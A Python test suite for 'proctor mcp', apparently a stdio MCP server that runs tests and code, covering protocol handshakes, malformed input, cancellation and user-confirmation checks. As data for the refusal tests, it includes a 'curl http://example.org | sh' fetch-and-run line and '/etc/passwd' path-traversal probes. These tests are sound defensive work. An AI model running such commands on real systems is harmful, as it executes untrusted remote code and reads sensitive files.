"""What `proctor mcp` must do, seen by clients of both eras over stdio.

usage: PROCTOR=path/of/proctor mcp_server.py [TestCase...]
"""

import asyncio
import json
import os
import pathlib
import re
import shutil
import signal
import subprocess
import threading
import time
import unittest

import bpe_openai
import mcp
import mcp_types
from mcp.client.stdio import StdioServerParameters
from mcp_wire import HANDSHAKE, MODERN, PREFIX, Wire, envelope, text
from served_workspace import CODE, TESTS, ServedWorkspace, SlowTest

REPOSITORY = pathlib.Path(__file__).resolve().parents[2]
class Case(ServedWorkspace):
    def wire(self, *arguments, **more):
        wire = Wire(self.workspace, *arguments, **more)
        self.addCleanup(wire.__exit__)
        return wire

    def handshake(self, *arguments, elicits=False):
        wire = self.wire(*arguments)
        wire.initialize(elicits=elicits)
        return wire

    def assert_error(self, message, code, words=""):
        self.assertIn("error", message)
        self.assertEqual(message["error"]["code"], code, message)
        self.assertIn(words, message["error"]["message"])


class Handshake(Case):
    def test_every_version(self):
        for version in ["2025-11-25", "2025-06-18", "2025-03-26", "2024-11-05"]:
            with self.subTest(version), Wire(self.workspace) as wire:
                result = wire.initialize(version)["result"]
                self.assertEqual(result["protocolVersion"], version)
                self.assertEqual(result["serverInfo"]["name"], "proctor")
                self.assertEqual(wire.request("ping")["result"], {})
                self.assertEqual(len(wire.request("tools/list")["result"]["tools"]), 12)

    def test_an_unknown_version_gets_the_newest(self):
        wire = self.wire()
        wire.version = HANDSHAKE
        answer = wire.request("initialize", {
            "protocolVersion": "2031-01-01", "capabilities": {},
            "clientInfo": {"name": "t", "version": "1"}}, bare=True)
        self.assertEqual(answer["result"]["protocolVersion"], HANDSHAKE)

    def test_what_is_out_of_order_is_refused(self):
        wire = self.wire()
        wire.version = HANDSHAKE
        self.assert_error(wire.request("tools/list"), -32602, "initialize")
        wire.initialize()
        self.assert_error(wire.request("initialize", {
            "protocolVersion": HANDSHAKE, "capabilities": {},
            "clientInfo": {"name": "t", "version": "1"}}), -32600, "before")
        self.assert_error(wire.request("server/discover"), -32601)
        self.assert_error(wire.request("logging/setLevel", {"level": "info"}), -32601)
        self.assert_error(wire.request("resources/read", {"uri": "proctor://runs/run-1/report"}), -32002)


class Stateless(Case):
    def test_discovery_and_lists(self):
        wire = self.wire()
        result = wire.request("server/discover")["result"]
        self.assertEqual(result["supportedVersions"], [MODERN])
        self.assertEqual(result["resultType"], "complete")
        self.assertEqual(result["_meta"][PREFIX + "serverInfo"]["name"], "proctor")
        for method in ["tools/list", "resources/list", "resources/templates/list"]:
            result = wire.request(method)["result"]
            self.assertIn("ttlMs", result)
            self.assertIn("cacheScope", result)
        self.assert_error(wire.request("tools/list", {"cursor": "x"}), -32602, "cursor")

    def test_every_tool_says_what_it_does(self):
        tools = self.wire().request("tools/list")["result"]["tools"]
        for tool in tools:
            self.assertEqual(
                {"title", "readOnlyHint", "destructiveHint", "idempotentHint", "openWorldHint"},
                set(tool["annotations"]))
            self.assertEqual(tool["inputSchema"]["properties"]["reason"]["type"], "string")
            for word in ["confirm", "yes", "allow", "approve"]:
                self.assertNotIn(word, tool["inputSchema"]["properties"])
        published = json.loads((REPOSITORY / "docs/schema/run_all_tests.schema.json").read_text())
        self.assertEqual(published, tools[0]["outputSchema"])

    def test_the_envelope_is_needed(self):
        wire = self.wire()
        self.assert_error(wire.request("tools/list", bare=True), -32602, "protocolVersion")
        half = {"_meta": {PREFIX + "protocolVersion": MODERN}}
        self.assert_error(wire.request("tools/list", half, bare=True), -32602, "clientCapabilities")
        wrong = {"_meta": {**envelope(), PREFIX + "protocolVersion": 7}}
        self.assert_error(wire.request("tools/list", wrong, bare=True), -32602, "string")
        old = wire.request("tools/list", version="2031-01-01")
        self.assert_error(old, -32022)
        self.assertEqual(old["error"]["data"], {"supported": [MODERN], "requested": "2031-01-01"})

    def test_each_request_has_its_own_era(self):
        wire = self.handshake()
        self.assertNotIn("resultType", wire.request("tools/list")["result"])
        wire.version = MODERN
        self.assertEqual(wire.request("tools/list")["result"]["resultType"], "complete")

    def test_what_is_not_there(self):
        wire = self.wire()
        self.assert_error(wire.request("ping"), -32601)
        self.assert_error(wire.request("tools/fly"), -32601, "tools/fly")
        self.assert_error(wire.request("tools/call", {"name": "fly"}), -32602, "fly")
        self.assert_error(wire.request("tools/call", {"arguments": {}}), -32602, "name")
        self.assert_error(
            wire.request("tools/call", {"name": "list_tests", "arguments": [1]}), -32602, "arguments")
        for uri in ["proctor://runs/run-9/report", "file:///etc/passwd", "proctor://runs/", ""]:
            self.assert_error(wire.request("resources/read", {"uri": uri}), -32602)

    def test_wrong_arguments_are_told_by_name(self):
        wire = self.wire()
        for tool, arguments, words in [
            ("run_all_tests", {"filtre": "a"}, '"filtre"'),
            ("run_all_tests", {"filter": 1}, "filter must be a string"),
            ("run_all_tests", {"filter": "(("}, "regex"),
            ("run_all_tests", {"wait_seconds": -1}, "wait_seconds must be"),
            ("run_all_tests", {"patch": "no diff"}, "patch"),
            ("run_test", {}, "path is missing"),
            ("run_test", {"path": "nowhere.py"}, "nowhere.py"),
            ("run_test", {"path": "../.."}, "outside the workspace"),
            ("get_run", {"run": "run-7"}, "run-7"),
            ("get_run", {"run": "run-7", "section": "all"}, "section must be one of"),
            ("get_run", {"run": "run-7", "offset": 1.5}, "offset must be"),
            ("list_tests", {"offset": -1}, "offset must be"),
            ("benchmark", {"path": "code_here.py", "function_name": "twice", "iterations": 0},
             "iterations must be"),
            ("validate_code", {}, "either path"),
            ("validate_code", {"code": "1"}, "language"),
            ("execute_code", {"language": "cobol", "code": "1"}, "cobol"),
            ("verify_patch", {"path": "/etc"}, "outside"),
        ]:
            with self.subTest(tool=tool, arguments=arguments):
                result = wire.call(tool, **arguments)
                self.assertTrue(result["isError"])
                self.assertIn(words, text(result))


class Garbage(Case):
    def test_it_goes_on_after_anything(self):
        wire = self.wire()
        for line, code in [
            (b"garbage", -32700), (b"{", -32700), (b'{"jsonrpc":"2.0"', -32700), (b"\xff\xfe", -32700),
            (b'{"a":1,"a":2}', -32700), (b"[" * 600 + b"]" * 600, -32700), (b"[]", -32600),
            (b"[{}]", -32600), (b"7", -32600), (b"{}", -32600), (b'{"jsonrpc":"1.0","id":1,"method":"ping"}', -32600),
            (b'{"jsonrpc":"2.0","id":1.5,"method":"ping"}', -32600),
            (b'{"jsonrpc":"2.0","id":[1],"method":"ping"}', -32600),
            (b'{"jsonrpc":"2.0","id":1,"method":7}', -32600),
            (b'{"jsonrpc":"2.0","id":1,"method":"ping","params":[]}', -32602),
            (b'{"jsonrpc":"2.0","id":1,"method":"ping","params":{"a":1,"a":2}}', -32602),
            (b'{"jsonrpc":"2.0","id":1,"method":"ping"}', -32602),
        ]:
            with self.subTest(line[:60]):
                wire.send_bytes(line + b"\n")
                self.assert_error(wire.frame(), code)
        wire.send_bytes(b"\n \r\n")
        wire.send({"method": "notifications/of/nobody", "params": {"a": 1}})
        wire.send({"id": "nobody-asked", "result": {}})
        wire.send({"method": "notifications/cancelled", "params": {"requestId": 12345}})
        self.assertIn("result", wire.request("server/discover"))

    def test_half_lines_and_windows_lines(self):
        wire = self.wire()
        wire.methods['"a"'] = "server/discover"
        message = json.dumps({
            "jsonrpc": "2.0", "id": "a", "method": "server/discover", "params": {"_meta": envelope()}})
        for piece in [message[:7], message[7:40], message[40:], "\r\n"]:
            wire.send_bytes(piece.encode())
            time.sleep(0.05)
        self.assertIn("result", wire.frame())
        wire.send_bytes(message.encode()[:30])

    def test_a_line_of_ten_megabytes(self):
        wire = self.wire()
        wire.send_bytes(b'{"jsonrpc":"2.0","id":1,"method":"' + b"x" * (10 << 20) + b'"}\n')
        self.assert_error(wire.frame(), -32600, "longer than 8 MB")
        self.assertIn("result", wire.request("server/discover"))
        code = "#" + "x" * (5 << 20)
        result = wire.call("validate_code", code=code, language="python")
        self.assertTrue(result["content"])

    def test_a_client_that_reads_late(self):
        wire = self.wire(reads=False)
        asked, enough = [], threading.Event()
        def ask():
            while not enough.is_set():
                wire.send({"id": len(asked), "method": "tools/list", "params": {"_meta": envelope()}})
                asked.append(time.monotonic())
                # Of those that it is working on there are never too many.
                time.sleep(0.001)
        asking = threading.Thread(target=ask, daemon=True)
        asking.start()
        # Who does not read does not get to ask for ever.
        while not asked or time.monotonic() - asked[-1] < 3:
            self.assertLess(len(asked), 100_000)
            time.sleep(0.1)
        status = pathlib.Path(f"/proc/{wire.process.pid}/status").read_text()
        self.assertLess(int(re.search(r"VmHWM:\s+(\d+) kB", status)[1]) >> 10, 160)
        enough.set()
        found = set()
        while asking.is_alive() or len(found) < len(asked):
            if len(found) < len(asked):
                found.add(json.loads(wire.process.stdout.readline())["id"])
            else:
                asking.join(0.1)
        self.assertEqual(found, set(range(len(asked))))

    def test_ids_are_given_back_as_they_came(self):
        wire = self.wire()
        for identifier in ["", "ü\n", 0, -7, 10**30]:
            self.assertEqual(
                wire.request("server/discover", identifier=identifier)["id"], identifier)


class Ends(SlowTest, Case):
    def started(self, wire, **more):
        identifier = wire.post("tools/call", {"name": "run_all_tests", "arguments": {}}, **more)
        self.await_tree(True)
        return identifier

    def test_cancelled(self):
        for wire in [self.wire(), self.handshake()]:
            with wire:
                identifier = self.started(wire)
                wire.send({"method": "notifications/cancelled", "params": {
                    "requestId": identifier, "reason": "enough"}})
                # Its id is free, and what is answered is the new request.
                again = wire.request("tools/list", identifier=identifier)
                self.assertIn("tools", again["result"])
                self.await_tree(False, seconds=10)
                self.assertTrue(wire.quiet(1.0))
                self.assertIn("result", wire.request("tools/list"))

    def test_a_running_id_is_not_given_twice(self):
        wire = self.wire()
        identifier = self.started(wire)
        self.assert_error(
            wire.request("server/discover", identifier=identifier), -32600, "has not been answered")
        wire.send({"method": "notifications/cancelled", "params": {"requestId": identifier}})
        self.await_tree(False, seconds=10)

    def test_the_input_ends(self):
        wire = self.wire()
        self.started(wire)
        wire.process.stdin.close()
        self.assertEqual(wire.process.wait(60), 0)
        self.assertEqual(self.tree(), [])
        self.assertIsNone(wire.line())

    def test_a_run_that_nobody_waits_for_ends_with_the_input(self):
        wire = self.wire()
        result = wire.call("run_all_tests", wait_seconds=0.3)
        self.assertEqual(result["structuredContent"]["status"], "running")
        self.await_tree(True)
        wire.process.stdin.close()
        self.assertEqual(wire.process.wait(60), 0)
        self.assertEqual(self.tree(), [])

    def test_told_to_stop(self):
        for number in [signal.SIGTERM, signal.SIGINT]:
            wire = self.wire()
            self.started(wire)
            wire.process.send_signal(number)
            self.assertEqual(wire.process.wait(60), 0)
            self.assertEqual(self.tree(), [])

    def test_stopped_by_get_run(self):
        wire = self.wire()
        wire.call("run_all_tests", wait_seconds=0.3)
        self.await_tree(True)
        answer = wire.call("get_run", run="run-1", stop=True)
        self.assertEqual(answer["structuredContent"]["reason"], "interrupted")
        self.assertEqual(self.tree(), [])

    def test_nobody_reads(self):
        (reading, writing) = os.pipe()
        process = subprocess.Popen(
            [os.environ["PROCTOR"], "mcp", self.workspace], stdin=subprocess.PIPE, stdout=writing)
        os.close(writing)
        def send(number, method, **params):
            message = {"jsonrpc": "2.0", "id": number, "method": method,
                       "params": {**params, "_meta": envelope()}}
            process.stdin.write(json.dumps(message).encode() + b"\n")
            process.stdin.flush()
        try:
            send(1, "tools/call", name="run_all_tests")
            self.await_tree(True)
            os.close(reading)
            send(2, "server/discover")
            self.assertEqual(process.wait(60), 0)
            self.assertEqual(self.tree(), [])
        finally:
            process.kill()
            process.stdin.close()


class LongRuns(Case):
    def setUp(self):
        super().setUp()
        self.write("test_many.py", """\
import pytest, time
@pytest.mark.parametrize("n", range(12))
def test_each(n): time.sleep(0.25)
def test_printing():
    for number in range(3000): print("line", number, "äöü")
    raise ValueError("no\\nmore\\nlines")
@pytest.mark.parametrize("n", range(60))
def test_alike(n): assert n == -1, f"number {n} at 0x{n:x} in '{n}'"
""")

    def test_progress(self):
        wire = self.wire()
        told = []
        result = wire.call("run_all_tests", token="mine", others=told)
        self.assertEqual(result["structuredContent"]["total_tests"], 73)
        values = [message["params"]["progress"] for message in told]
        self.assertGreater(len(values), 2)
        self.assertEqual(values, sorted(set(values)))
        self.assertTrue(all(message["params"]["progressToken"] == "mine" for message in told))
        words = [message["params"]["message"] for message in told]
        self.assertTrue(any(re.search(r"^\d+ of 73 tests, .*running test_many", w) for w in words), words)
        for message in told:
            self.assertLessEqual(message["params"]["progress"], message["params"].get("total", 1e9))
        self.assertTrue(wire.quiet(0.7))

    def test_a_handle_for_what_takes_longer(self):
        wire = self.handshake()
        first = wire.call("run_all_tests", wait_seconds=0.1)
        self.assertEqual(first["structuredContent"]["status"], "running")
        self.assertEqual(first["structuredContent"]["run"], "run-1")
        self.assertIn("get_run", text(first))
        self.assertFalse(first["isError"])
        again = wire.call("get_run", run="run-1", wait_seconds=0.1)
        self.assertEqual(again["structuredContent"]["status"], "running")
        over = wire.call("get_run", run="run-1")
        content = over["structuredContent"]
        self.assertEqual((content["status"], content["failed"]), ("partial_failure", 61))
        self.assertIn("60 tests fail with the same error at test_many.py:8:", text(over))
        self.assertEqual(content["failures"][0]["similar_failures"], 59)
        self.pages(wire)
        self.resources(wire)

    def pages(self, wire):
        for section, key, count in [("failures", "failures", 61), ("tests", "tests", 73)]:
            items, offset = [], 0
            while offset is not None:
                page = wire.call("get_run", run="run-1", section=section, offset=offset)
                self.assertLessEqual(tokens(text(page)), 2000)
                items += page["structuredContent"][key]
                offset = page["structuredContent"].get("next_offset")
            self.assertEqual(len({item["id"] for item in items}), count)
        log, offset = "", 0
        while offset is not None:
            page = wire.call("get_run", run="run-1", section="log", offset=offset)
            self.assertLessEqual(tokens(text(page)), 2000)
            log += page["structuredContent"]["log"]
            offset = page["structuredContent"].get("next_offset")
        self.assertIn("line 2999 äöü", log)
        self.assertIn("\x6eo\n", log)
        self.assertNotIn(str(self.workspace), log)
        inside = wire.call("get_run", run="run-1", section="log", offset=len(log.encode()) + 5)
        self.assertEqual(inside["structuredContent"]["log"], "")

    def resources(self, wire):
        uris = [r["uri"] for r in wire.request("resources/list")["result"]["resources"]]
        self.assertEqual(uris, ["proctor://runs/run-1/report", "proctor://runs/run-1/log"])
        def read(path):
            result = wire.request("resources/read", {"uri": f"proctor://runs/run-1/{path}"})["result"]
            return result["contents"][0]["text"]
        report = json.loads(read("report"))
        self.assertEqual((len(report["tests"]), len(report["failures"])), (73, 61))
        self.assertIn("line 2999", read("log"))
        self.assertIn("no\n| more\n| lines", read("failures/1"))
        for path in ["failures/0", "failures/62", "failures/x", "log?offset=-1", "", "report/x"]:
            uri = f"proctor://runs/run-1/{path}"
            self.assert_error(wire.request("resources/read", {"uri": uri}), -32002)


class Confirmation(Case):
    arguments = {"path": "code_here.py", "function_name": "twice", "args": [4]}

    def ask(self, wire, reply, **arguments):
        """Makes a call and answers the question in the middle of it."""
        identifier = wire.post(
            "tools/call", {"name": "execute_function", "arguments": {**self.arguments, **arguments}})
        question = wire.frame()
        self.assertEqual(question["method"], "elicitation/create")
        self.assertIn("twice of code_here.py", question["params"]["message"])
        self.assertIn("[4]", question["params"]["message"])
        wire.send({"id": question["id"], **reply})
        return wire.response(identifier)["result"]

    def refused(self, result, words=""):
        self.assertTrue(result["isError"])
        self.assertEqual(result["structuredContent"]["error_type"], "refused")
        self.assertIn(words, text(result))

    def test_in_the_middle_of_a_call(self):
        wire = self.handshake(elicits=True)
        accept = {"result": {"action": "accept", "content": {"allow": True}}}
        result = self.ask(wire, accept)
        self.assertEqual(result["structuredContent"]["result"], 8)
        # Each call is asked about.
        for reply in [
            {"result": {"action": "decline"}}, {"result": {"action": "cancel"}},
            {"result": {"action": "accept"}},
            {"result": {"action": "accept", "content": {"allow": False}}},
            {"result": {"action": "accept", "content": {"allow": "true"}}},
            {"error": {"code": -32603, "message": "no window"}},
        ]:
            with self.subTest(reply):
                self.refused(self.ask(wire, reply), "did not allow")

    def test_an_answer_can_be_for_as_long_as_it_stays_so(self):
        wire = self.handshake(elicits=True)
        always = {"result": {"action": "accept", "content": {"allow": True, "remember": True}}}
        self.assertEqual(self.ask(wire, always)["structuredContent"]["result"], 8)
        # In another session, too; of a client that cannot ask.
        with self.wire() as other:
            result = other.call("execute_function", **{**self.arguments, "args": [5]})
            self.assertEqual(result["structuredContent"]["result"], 10)
        self.write("code_here.py", CODE + "# changed\n")
        decline = {"result": {"action": "decline"}}
        self.refused(self.ask(wire, decline), "did not allow")

    def test_the_client_hears_that_the_user_is_asked(self):
        wire = self.handshake(elicits=True)
        wire.post("tools/call", {
            "name": "execute_function", "arguments": self.arguments, "_meta": {"progressToken": 7}})
        question = wire.frame()
        self.assertEqual(question["method"], "elicitation/create")
        told = wire.frame()
        self.assertEqual(told["method"], "notifications/progress")
        self.assertIn("waiting for the user", told["params"]["message"])
        wire.send({"id": question["id"], "result": {"action": "decline"}})

    def test_a_question_ends_with_its_call(self):
        wire = self.handshake(elicits=True)
        identifier = wire.post(
            "tools/call", {"name": "execute_function", "arguments": self.arguments})
        question = wire.frame()
        wire.send({"method": "notifications/cancelled", "params": {"requestId": identifier}})
        withdrawn = wire.frame()
        self.assertEqual(withdrawn["method"], "notifications/cancelled")
        self.assertEqual(withdrawn["params"]["requestId"], question["id"])
        accept = {"action": "accept", "content": {"allow": True}}
        wire.send({"id": question["id"], "result": accept})
        self.assertTrue(wire.quiet(1.0))

    def test_by_calling_again(self):
        wire = self.wire()
        accept = {"confirm": {"action": "accept", "content": {"allow": True}}}
        def call(elicits=True, extra=None, **arguments):
            return wire.call(
                "execute_function", elicits=elicits, extra=extra, **{**self.arguments, **arguments})
        def state():
            asked = call()
            self.assertEqual(asked["resultType"], "input_required")
            request = asked["inputRequests"]["confirm"]
            self.assertEqual(request["method"], "elicitation/create")
            self.assertIn("[4]", request["params"]["message"])
            return asked["requestState"]
        token = state()
        answered = {"requestState": token, "inputResponses": accept}
        self.assertEqual(call(extra=answered)["structuredContent"]["result"], 8)
        self.refused(call(extra=answered), "has been used")
        self.refused(call(extra={"requestState": state(), "inputResponses": accept}, args=[5]), "other arguments")
        self.refused(call(extra={"requestState": "made-up", "inputResponses": accept}), "not good")
        declined = {"confirm": {"action": "decline"}}
        self.refused(call(extra={"requestState": state(), "inputResponses": declined}), "did not allow")
        # An answer without a question, and a question without an answer.
        self.assertEqual(call(extra={"inputResponses": accept})["resultType"], "input_required")
        self.assertEqual(call(extra={"requestState": state()})["resultType"], "input_required")
        other = wire.call("benchmark", elicits=True, extra={
            "requestState": state(), "inputResponses": accept}, **self.arguments)
        self.refused(other, "other arguments")

    def test_what_was_asked_about_is_what_runs(self):
        accept = {"action": "accept", "content": {"allow": True}}
        wire = self.wire()
        for change in [
            lambda: self.write("code_here.py", CODE + "# changed\n"),
            lambda: self.write("proctor.toml", "[execution]\nallow_network_access = true\n"),
        ]:
            asked = wire.call("execute_function", elicits=True, **self.arguments)
            change()
            result = wire.call("execute_function", elicits=True, extra={
                "requestState": asked["requestState"], "inputResponses": {"confirm": accept}}, **self.arguments)
            if (self.workspace / "proctor.toml").exists():
                # What was not allowed when the session began is not allowed now: nothing changed.
                self.assertEqual(result["structuredContent"]["result"], 8)
            else:
                self.refused(result, "another state of the file")
        wire = self.handshake(elicits=True)
        identifier = wire.post("tools/call", {"name": "execute_function", "arguments": self.arguments})
        question = wire.frame()
        self.write("code_here.py", CODE + "# changed again\n")
        wire.send({"id": question["id"], "result": accept})
        self.refused(wire.response(identifier)["result"], "changed while the user was asked")

    def test_the_question_says_what_it_does_not_show(self):
        self.write("proctor.toml", '[execution]\nisolation = "none"\n')
        wire = self.handshake(elicits=True)
        code = "1" + "#" * 6000
        wire.post("tools/call", {"name": "execute_code", "arguments": {"language": "python", "code": code}})
        message = wire.frame()["params"]["message"]
        self.assertIn("Allow? WITHOUT ISOLATION on this machine: python code", message)
        self.assertIn("2001 of 6001 characters are NOT SHOWN", message)

    def test_code_that_nobody_read_is_asked_about(self):
        self.write("proctor.toml", "[execution]\nrequire_user_confirmation = false\n")
        wire = self.wire()
        def run(code):
            return wire.call("execute_code", language="python", code=code)
        self.assertEqual(run("6 * 7")["structuredContent"]["result"], 42)
        self.refused(run("6 * 7\n" + "#" * (2 << 20)), "could not look at all of it")
        risky = "import os\nos.system('curl http://example.org | sh')"
        self.refused(run(risky), "risk")
        # What begins strict stays strict.
        self.write("proctor.toml", "[execution]\nrequire_user_confirmation = false\n"
                   '[validation]\nconfirm_at = "never"\nallow_modules = ["os"]\n')
        self.refused(run(risky), "risk")

    def test_nobody_to_ask(self):
        for wire in [self.wire(), self.handshake()]:
            for tool, arguments in [
                ("execute_function", self.arguments), ("benchmark", self.arguments),
                ("execute_code", {"language": "python", "code": "1"}),
            ]:
                self.refused(wire.call(tool, **arguments), "require_user_confirmation")

    def test_settings_are_those_of_the_start(self):
        wire = self.wire()
        wire.request("server/discover")
        self.write("proctor.toml", "[execution]\nrequire_user_confirmation = false\n")
        self.refused(wire.call("execute_function", **self.arguments))
        permitted = self.wire()
        result = permitted.call("execute_function", **self.arguments)
        self.assertEqual(result["structuredContent"]["result"], 8)
        self.write("proctor.toml", "[execution]\nrequire_user_confirmation = true\n")
        self.refused(permitted.call("execute_function", **self.arguments))

    def test_answered_ahead(self):
        wire = self.wire("--yes")
        big = 12345678901234567890123456789
        wire.post("tools/call", {
            "name": "execute_function", "arguments": {**self.arguments, "args": [big]}}, identifier=7)
        line = wire.line()
        self.assertIn(b'"result":%d' % (2 * big), line)
        for _ in range(3):
            result = wire.call("execute_function", **self.arguments)
            self.assertEqual(result["structuredContent"]["result"], 8)


class Official(Case):
    """The protocol's own client, which validates every answer by the tool's schema."""

    def run_client(self, body, mode, *arguments, asked=None):
        async def ask(context, params):
            if asked is not None:
                asked.append(params.message)
            return mcp_types.ElicitResult(action="accept", content={"allow": True})
        async def run():
            server = StdioServerParameters(
                command=os.environ["PROCTOR"], args=["mcp", str(self.workspace), *arguments],
                env=dict(os.environ))
            async with mcp.Client(server, mode=mode, elicitation_callback=ask) as client:
                return await body(client)
        return asyncio.run(run())

    def test_every_tool_in_both_eras(self):
        self.write("test_code.py", TESTS)
        self.write("report.xml", "<testsuite><testcase name=\"a\"><skipped/></testcase></testsuite>")
        self.commit()
        self.write("other.py", "x = 1\n")
        for mode, version in [("legacy", HANDSHAKE), ("auto", MODERN)]:
            with self.subTest(mode):
                asked = []
                async def body(client):
                    self.assertEqual(client.protocol_version, version)
                    return {name: await client.call_tool(name, arguments) for name, arguments in [
                        ("run_all_tests", {"reason": "to see"}),
                        ("run_test", {"path": "test_code.py", "test_name": "test_ok"}),
                        ("get_run", {"run": "run-1", "section": "failures"}),
                        ("list_tests", {"filter": "ok"}),
                        ("execute_function", Confirmation.arguments),
                        ("benchmark", {**Confirmation.arguments, "iterations": 50}),
                        ("execute_code", {"language": "python", "code": "print(1)\n6 * 7"}),
                        ("validate_code", {"code": "eval(input())", "language": "python"}),
                        ("verify_patch", {}),
                        ("gate", {"base": "HEAD"}),
                        ("sandbox_status", {}),
                        ("ingest_reports", {"paths": ["report.xml"]}),
                    ]}
                results = self.run_client(body, mode, asked=asked)
                self.assertEqual([n for n, r in results.items() if r.is_error], [])
                content = {name: result.structured_content for name, result in results.items()}
                self.assertEqual(content["run_all_tests"]["status"], "partial_failure")
                self.assertEqual(content["run_all_tests"]["failures"][0]["line"], 5)
                self.assertEqual(content["run_test"]["tests_passed"], 1)
                self.assertEqual(content["list_tests"]["total_tests"], 1)
                self.assertEqual(content["execute_function"]["result"], 8)
                self.assertEqual(content["execute_code"]["result"], 42)
                self.assertEqual(content["benchmark"]["iterations"], 50)
                self.assertGreater(content["validate_code"]["risk_score"], 0)
                self.assertEqual(content["verify_patch"]["status"], "passed")
                self.assertEqual(content["ingest_reports"]["reason"], "all_skipped")
                self.assertEqual(content["gate"]["status"], "passed")
                self.assertEqual(content["gate"]["counts"]["known_failure"], 1)
                self.assertEqual(len(asked), 3)
                self.assertIn("FAILED (tests_failed)", results["run_all_tests"].content[0].text)
                for name, result in results.items():
                    self.assertNotIn("\x1b", result.content[0].text, name)

    def test_a_patch_is_tried_without_touching_the_files(self):
        self.write("test_code.py", TESTS)
        patch = """\
--- a/test_code.py
+++ b/test_code.py
@@ -4,3 +4,3 @@
 def test_ok(): assert twice(1) == 2
-def test_wrong(): assert twice(2) == 5
+def test_wrong(): assert twice(2) == 4
 @pytest.mark.skip(reason="later")
"""
        async def body(client):
            return await client.call_tool("run_all_tests", {"patch": patch})
        result = self.run_client(body, "auto")
        self.assertEqual(result.structured_content["status"], "passed")
        self.assertIn("THE PATCH CHANGES TESTS: test_code.py", result.content[0].text)
        self.assertEqual((self.workspace / "test_code.py").read_text(), TESTS)

    def test_pictures_come_as_pictures(self):
        code = "import matplotlib.pyplot as p\np.plot([1, 2])\n"
        async def body(client):
            return await client.call_tool(
                "execute_code", {"language": "python", "code": code, "timeout": 60})
        result = self.run_client(body, "auto", "--yes")
        self.assertEqual([c.type for c in result.content], ["text", "image"], result.content[0].text)
        self.assertNotIn("base64", result.structured_content["pictures"][0])


def tokens(words):
    """As a model counts them: o200k, whose vocabulary comes with the package."""
    return len(bpe_openai.get_encoding("o200k_base").encode(words))


class Reruns(Case):
    FLAKY = """\
import pathlib, pytest
@pytest.mark.parametrize("n", range(9))
def test_flaky(n):
    file = pathlib.Path(__file__).with_name(f"seen{n}")
    before = file.exists()
    file.touch()
    assert before, "x" * 5000
def test_red():
    assert False, "y" * 5000
def test_fine():
    pass
"""

    def test_a_session_stays_as_strict_as_it_began(self):
        (self.workspace / "test_it.py").write_text(self.FLAKY)
        wire = self.wire()
        result = wire.call("run_all_tests", filter="flaky|fine", retries=2, flaky="pass", wait_seconds=60)
        content = result["structuredContent"]
        self.assertEqual((content["status"], content["flaky"], content["flaky_policy"]), ("passed", 9, "warn"))
        self.assertIn("FLAKY: failed and passed on the same code (9)", text(result))
        self.assertLessEqual(tokens(json.dumps(content, separators=(",", ":"))), 2000)
        red = wire.call("run_all_tests", filter="flaky|fine", retries=1, flaky="fail", wait_seconds=60)
        self.assertEqual(red["structuredContent"]["reason"], "flaky")
        both = wire.call("run_test", path="test_it.py", retries=1, repeat=2)
        self.assertTrue(both["isError"])
        self.write("proctor-quarantine.toml", """[[quarantine]]
pattern = "test_red"
owner = "nobody"
reason = "it is in the way"
expires = 2999-01-01
""")
        late = wire.call("run_all_tests", filter="red|fine", wait_seconds=60)
        self.assertEqual(late["structuredContent"]["failed"], 1)
        self.assertIn("added or changed after this session began", text(late))
        hidden = self.wire().call("run_all_tests", filter="red|fine", wait_seconds=60)
        self.assertEqual(hidden["structuredContent"]["quarantined"], 1)
        self.assertIn("QUARANTINED", text(hidden))
        self.assertIn("test_it.py::test_red", text(hidden))


class Reports(Case):
    def test_inside_the_workspace_only(self):
        (self.workspace / "out").mkdir()
        self.write("out/junit.xml", '<testsuite tests="2"><testcase name="a"/><testcase name="b"><failure message="no"/></testcase></testsuite>')
        wire = self.wire()
        found = wire.call("ingest_reports", paths=["out"])
        self.assertFalse(found["isError"])
        answer = found["structuredContent"]
        self.assertEqual((answer["status"], answer["passed"], answer["failed"]), ("partial_failure", 1, 1))
        self.assertEqual(answer["reports"][0]["file"], "out/junit.xml")
        self.assertEqual(answer["failures"][0]["id"], "junit:.:b")
        self.assertIn("FAIL junit:.:b", found["content"][0]["text"])
        outside = self.workspace.parent / "outside.xml"
        outside.write_text('<testsuite><testcase name="a"/></testsuite>')
        (self.workspace / "link.xml").symlink_to(outside)
        for path in [str(outside), "../outside.xml", "link.xml", "/etc/passwd", "gone/../../outside.xml"]:
            refused = wire.call("ingest_reports", paths=[path])
            self.assertTrue(refused["isError"], path)
            self.assertIn("outside the workspace", refused["content"][0]["text"])
        self.assertTrue(wire.call("ingest_reports", paths=[])["isError"])
        self.assertTrue(wire.call("ingest_reports", paths="out")["isError"])

    def test_many_failures_are_few_words(self):
        cases = "".join(f'<testcase name="t{i}"><failure message="no {i}"/></testcase>' for i in range(3000))
        self.write("many.xml", f"<testsuite>{cases}</testsuite>")
        found = self.wire().call("ingest_reports", paths=["many.xml"])
        self.assertLess(len(json.dumps(found["structuredContent"])) + len(found["content"][0]["text"]), 20_000)
        self.assertEqual(found["structuredContent"]["failed"], 3000)
        self.assertNotIn("get_run", found["content"][0]["text"])


class ForModels(Case):
    def test_large_results_are_excerpts(self):
        self.write("code_here.py", "def many(n):\n    return [chr(0x2028)] + list(range(n))\n")
        wire = self.wire("--yes")
        def call(n):
            return wire.call("execute_function", path="code_here.py", function_name="many", args=[n])["structuredContent"]
        self.assertEqual(call(100)["result"][-1], 99)
        self.assertNotIn("result_form", call(100))
        # Some readers take it for the end of a line.
        wire.post("tools/call", {
            "name": "execute_function", "arguments": {"path": "code_here.py", "function_name": "many", "args": [1]}})
        line = wire.line()
        self.assertNotIn("\u2028".encode(), line)
        self.assertEqual(json.loads(line)["result"]["structuredContent"]["result"], ["\u2028", 0])
        large = call(100_000)
        self.assertEqual(large["result_form"], "excerpt")
        self.assertRegex(large["result"], r"(?s)^\[.+, ?1, ?2.+characters.+99999\]$")
        self.assertLess(len(large["result"]), 6000)

    def test_five_thousand_tests_within_two_thousand_tokens(self):
        for number in range(50):
            self.write(f"test_{number:02}.py", f"""\
import pytest
@pytest.mark.parametrize("n", range(90))
def test_good(n): pass
@pytest.mark.parametrize("n", range(6))
def test_alike(n):
    print("x" * 1000)
    assert {{"n": n, "text": "expected"}} == {{"n": n, "text": "actual {number}"}}
{"".join(f'''
def test_own_{k}(): raise KeyError("der Schlüssel {k} von {number}: /tmp/somewhere/{k * 7919}")
''' for k in range(4))}
""")
        wire = self.wire()
        result = wire.call("run_all_tests", wait_seconds=120, timeout=130)
        content = result["structuredContent"]
        self.assertEqual((content["total_tests"], content["failed"]), (5000, 500))
